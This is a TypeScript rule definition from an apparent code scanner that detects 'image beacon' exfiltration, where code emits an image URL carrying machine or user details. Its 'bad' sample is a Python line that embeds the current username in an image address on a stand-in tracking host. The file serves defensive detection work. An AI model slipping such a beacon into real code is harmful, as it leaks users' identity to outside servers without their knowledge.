import { imageBeacon } from "../../detectors/image-beacon.ts";
import { defineRule } from "../../engine/define-rule.ts";
import { python } from "../../engine/rule-example.ts";
import { ignoreSamples } from "../../filters/ignore-samples.ts";

export const imageBeaconRule = defineRule({
  family: "exfiltration",
  id: "exfiltration.image-beacon",
  alias: "R05.image_beacon",
  severity: "review",
  says: "It writes an image whose address carries facts about the machine, its user or the project to whoever serves it.",
  falsePositive: "A badge with the user's name from a host that no page names.",
  bad: [
    python("import getpass\nprint(f\"<img src='https://px.unknown.example/o.gif?u={getpass.getuser()}'>\")"),
  ],
  good: [python("import sys\nprint(f\"<img src='https://px.unknown.example/{sys.argv[1]}.png'>\")")],
  run: ignoreSamples(imageBeacon),
});
